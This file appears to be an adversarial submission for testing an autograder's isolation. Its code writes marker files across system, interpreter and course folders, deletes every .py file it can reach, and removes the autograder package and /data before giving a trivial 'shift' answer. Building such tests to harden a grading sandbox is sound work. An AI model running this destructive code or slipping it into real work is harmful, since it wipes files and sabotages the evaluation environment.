"""Writes into the course, the package, the interpreter and other folders; deletes what it can.

# points:
"""

# %% extra first
import glob
import os
import shutil
import site
import sys

import autograder

package = os.path.dirname(autograder.__file__)
places = [
    ".",
    "..",
    "../..",
    "/tmp",
    "/",
    "/etc",
    "/usr/lib",
    "/data",
    "/cache/autograder",
    "/dev/shm",
    sys.prefix,
]
for place in [*places, *site.getsitepackages(), package, os.path.dirname(package), os.path.expanduser("~")]:
    try:
        open(os.path.join(place, "adversary-was-here"), "w").close()
    except OSError:
        pass
    try:
        for path in glob.glob(os.path.join(place, "*.py")):
            os.remove(path)
    except OSError:
        pass
shutil.rmtree(package, ignore_errors=True)
shutil.rmtree("/data", ignore_errors=True)


# %% shift answer
def shift(x, steps):
    return x.roll(steps, dims=1)
